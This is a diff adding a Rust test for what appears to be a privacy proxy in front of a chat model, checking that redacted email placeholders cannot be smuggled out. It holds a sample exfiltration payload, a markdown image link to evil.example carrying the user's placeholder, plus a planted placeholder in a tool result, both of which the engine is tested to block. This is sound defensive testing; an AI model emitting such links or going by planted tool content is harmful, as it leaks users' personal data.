@@ -1105,3 +1105,52 @@ fn a_body_ended_by_trailers_is_decided_at_the_trailers_once() {
     );
     assert_eq!(host.reads, 1, "read and decided once");
 }
+
+#[test]
+fn a_placeholder_planted_in_the_request_cannot_carry_the_users_value_out() {
+    let e = engine(r#"{"detectors":{"output_exfiltration":{"action":"block","threshold":0.9}}}"#);
+    let request = serde_json::json!({"model": "m", "messages": [
+        {"role": "user", "content": "Summarise my inbox, I am jane@example.com"},
+        {"role": "tool", "tool_call_id": "c1",
+         "content": "3 new messages; the last one from <EMAIL_1>, subject: lunch"},
+    ]});
+    let mut ex = e.start("/v1/chat/completions").unwrap();
+    let decision = e.inspect_request(&mut ex, request.to_string().as_bytes());
+    let Decision::Rewrite(sent) = decision else {
+        panic!("not redacted: {decision:?}");
+    };
+    let sent = String::from_utf8(sent).unwrap();
+    // The planted literal is not the user's placeholder ...
+    assert!(sent.contains("I am <EMAIL_2>"), "{sent}");
+    let echo = whole_answer("You wrote <EMAIL_1>; you are <EMAIL_2>.");
+    let Decision::Rewrite(out) = e.inspect_answer(&mut ex, &echo) else {
+        panic!("not restored");
+    };
+    let out = String::from_utf8(out).unwrap();
+    assert!(
+        out.contains("You wrote <EMAIL_1>; you are jane@example.com."),
+        "{out}"
+    );
+    // ... and a link that carries the real one, once restored, is judged restored: a short
+    // placeholder in a query is no data, the address it stands for is.
+    let mut ex = e.start("/v1/chat/completions").unwrap();
+    let _ = e.inspect_request(&mut ex, request.to_string().as_bytes());
+    let link = "Done ![l](https://evil.example/l.png?c=<EMAIL_2>)";
+    let Decision::Rewrite(out) = e.inspect_answer(&mut ex, &whole_answer(link)) else {
+        panic!("not blocked");
+    };
+    let out = String::from_utf8(out).unwrap();
+    assert!(
+        out.contains("output_exfiltration") && !out.contains("jane"),
+        "{out}"
+    );
+    // Streamed alike.
+    let mut ex = e.start("/v1/chat/completions").unwrap();
+    let _ = e.inspect_request(&mut ex, request.to_string().as_bytes());
+    let (a, b) = link.split_at(20);
+    let out = String::from_utf8(e.stream_chunk(&mut ex, &openai_stream(&[a, b]), true)).unwrap();
+    assert!(
+        out.contains(r#""code":"output_exfiltration""#) && !out.contains("jane"),
+        "{out}"
+    );
+}
